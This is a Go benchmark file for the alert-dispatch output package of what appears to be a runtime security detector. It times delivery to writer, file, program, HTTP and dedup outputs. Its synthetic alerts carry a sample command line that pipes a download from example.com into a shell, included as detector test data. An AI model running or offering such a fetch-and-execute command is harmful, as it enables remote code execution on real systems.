package output

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/sysward/sysward/detector"
	"github.com/sysward/sysward/detector/metrics"
)

// nopOutput does nothing synchronously: the baseline, which leaves only the
// Dispatcher's own work (alert counter, dedup check, fan-out).
type nopOutput struct{}

func (nopOutput) Name() string                { return "nop" }
func (nopOutput) Send(*detector.Alert)        {}
func (nopOutput) Close(context.Context) error { return nil }
func (nopOutput) Stats() Stats                { return Stats{} }

func benchAlerts(n int) []*detector.Alert {
	out := make([]*detector.Alert, n)
	for i := range out {
		a := alert(i)
		a.OutputFields["proc.cmdline"] = "sh -c 'curl http://example.com/x | sh'"
		a.OutputFields["container.id"] = "0123456789ab"
		a.OutputFields["user.name"] = "root"
		a.Workload = fmt.Sprintf("default/web-%d", i%16)
		out[i] = a
	}
	return out
}

type benchCase struct {
	name string
	// outputs makes the outputs for one run; queue sized so that nothing is
	// dropped and the time measured is the time to deliver every alert.
	outputs func(b *testing.B, queue int, rec metrics.Recorder) []Output
	dedup   DedupConfig
	// distinct gives every alert its own dedup key.
	distinct bool
}

func benchCases() []benchCase {
	writer := func(f Format) func(*testing.B, int, metrics.Recorder) []Output {
		return func(b *testing.B, q int, rec metrics.Recorder) []Output {
			return []Output{NewWriter(io.Discard, f, &Options{QueueSize: q, Recorder: rec})}
		}
	}
	file := func(b *testing.B, q int, rec metrics.Recorder) []Output {
		f, err := NewFile(filepath.Join(b.TempDir(), "alerts.jsonl"), FormatJSON, &Options{QueueSize: q, Recorder: rec})
		if err != nil {
			b.Fatal(err)
		}
		return []Output{f}
	}
	httpOut := func(b *testing.B, q int, rec metrics.Recorder) []Output {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			io.Copy(io.Discard, r.Body)
		}))
		b.Cleanup(srv.Close)
		h, err := NewHTTP(HTTPConfig{URL: srv.URL}, &Options{QueueSize: q, Recorder: rec})
		if err != nil {
			b.Fatal(err)
		}
		return []Output{h}
	}
	program := func(b *testing.B, q int, rec metrics.Recorder) []Output {
		p, err := NewProgram(ProgramConfig{Argv: []string{"/bin/sh", "-c", "exec cat > /dev/null"}, Format: "json"},
			&Options{QueueSize: q, Recorder: rec})
		if err != nil {
			b.Fatal(err)
		}
		return []Output{p}
	}
	return []benchCase{
		{name: "nop (baseline)", outputs: func(*testing.B, int, metrics.Recorder) []Output { return []Output{nopOutput{}} }},
		{name: "text to io.Discard", outputs: writer(FormatText)},
		{name: "json to io.Discard", outputs: writer(FormatJSON)},
		{name: "file (json)", outputs: file},
		{name: "program (cat)", outputs: program},
		{name: "http (loopback)", outputs: httpOut},
		{name: "fan-out text+json+file+program", outputs: func(b *testing.B, q int, rec metrics.Recorder) []Output {
			return append(append(writer(FormatText)(b, q, rec), writer(FormatJSON)(b, q, rec)...),
				append(file(b, q, rec), program(b, q, rec)...)...)
		}},
		{name: "dedup, all repeats (nop)", dedup: DedupConfig{Window: Duration(time.Hour)},
			outputs: func(*testing.B, int, metrics.Recorder) []Output { return []Output{nopOutput{}} }},
		{name: "dedup, all distinct (nop)", dedup: DedupConfig{Window: Duration(time.Hour), MaxKeys: 1 << 20}, distinct: true,
			outputs: func(*testing.B, int, metrics.Recorder) []Output { return []Output{nopOutput{}} }},
	}
}

// result is the last measurement of a case (the one at the final b.N).
type result struct {
	n       int
	sendNs  float64 // per alert: the Send calls alone (what the engine pays)
	ns      float64 // per alert: Send through delivery
	allocs  float64 // per alert
	bytes   float64 // per alert
	dropped uint64
}

// run sends b.N alerts through a Dispatcher and closes it (delivering all),
// inside the timer, and records the measurement in into.
func (c benchCase) run(b *testing.B, into map[string]result) {
	rec := metrics.New(&metrics.Options{NoRuntimeCollectors: true})
	outs := c.outputs(b, b.N+1, rec)
	alerts := benchAlerts(1024)
	if c.distinct {
		alerts = make([]*detector.Alert, b.N)
		for i := range alerts {
			a := alert(i)
			a.Workload = fmt.Sprintf("w%d", i)
			alerts[i] = a
		}
	} else if c.dedup.Window > 0 {
		alerts = alerts[:1]
	}
	d := NewDispatcher(DispatcherConfig{Recorder: rec, Dedup: c.dedup, FlushTimeout: 10 * time.Minute}, outs...)
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	b.ReportAllocs()
	b.ResetTimer()
	start := time.Now()
	for i := range b.N {
		d.Send(alerts[i%len(alerts)])
	}
	sendDur := time.Since(start)
	if err := d.Close(); err != nil {
		b.Fatal(err)
	}
	b.StopTimer()
	runtime.ReadMemStats(&after)
	var dropped uint64
	for _, o := range outs {
		dropped += o.Stats().Dropped
	}
	if dropped > 0 {
		b.Fatalf("%d alerts dropped: the queue must hold them all", dropped)
	}
	if into != nil {
		n := float64(b.N)
		into[c.name] = result{n: b.N, sendNs: float64(sendDur.Nanoseconds()) / n, ns: float64(b.Elapsed().Nanoseconds()) / n,
			allocs: float64(after.Mallocs-before.Mallocs) / n, bytes: float64(after.TotalAlloc-before.TotalAlloc) / n}
	}
}

// BenchmarkDispatch measures each output's cost per alert, Dispatcher.Send
// through delivery (end to end, nothing dropped), as sub-benchmarks, then
// prints them as a table with the ratio to the nop baseline measured in the
// same run. "Send ns" is the Send loop alone: what the engine's goroutine
// pays while the outputs work on theirs. Allocation counts in the table include the outputs' goroutines
// (encoding buffers, HTTP requests), which -benchmem's per-op figure also does.
func BenchmarkDispatch(b *testing.B) {
	results := map[string]result{}
	cases := benchCases()
	for _, c := range cases {
		b.Run(strings.ReplaceAll(c.name, " ", "_"), func(b *testing.B) { c.run(b, results) })
	}
	base := results[cases[0].name].ns
	if base == 0 {
		return // baseline filtered out by -bench
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "\n%-32s %9s %9s %10s %8s %8s %10s\n", "Dispatcher.Send → delivered", "Send ns", "total ns", "vs nop", "allocs", "B/alert", "alerts/s")
	for _, c := range cases {
		r, ok := results[c.name]
		if !ok {
			continue
		}
		fmt.Fprintf(&sb, "%-32s %9.0f %9.0f %9.1fx %8.2f %8.0f %10.0f\n", c.name, r.sendNs, r.ns, r.ns/base, r.allocs, r.bytes, 1e9/r.ns)
	}
	fmt.Fprint(os.Stdout, sb.String())
}

// BenchmarkDedupOffer is the dedup check alone, on repeats, in parallel
// (the engine may run on several goroutines).
func BenchmarkDedupOffer(b *testing.B) {
	d := NewDedup(DedupConfig{Window: Duration(time.Hour)}, nil, func(*detector.Alert) {})
	defer d.Close()
	alerts := benchAlerts(64)
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		i := 0
		for pb.Next() {
			d.Offer(alerts[i%len(alerts)])
			i++
		}
	})
}

// BenchmarkEncode is the per-alert encoding cost of the two line formats.
func BenchmarkEncode(b *testing.B) {
	a := benchAlerts(1)[0]
	for _, f := range []Format{FormatText, FormatJSON} {
		b.Run(f.String(), func(b *testing.B) {
			buf := make([]byte, 0, 4096)
			b.ReportAllocs()
			for range b.N {
				buf = appendLine(buf[:0], a, f)
			}
			b.SetBytes(int64(len(buf)))
		})
	}
}
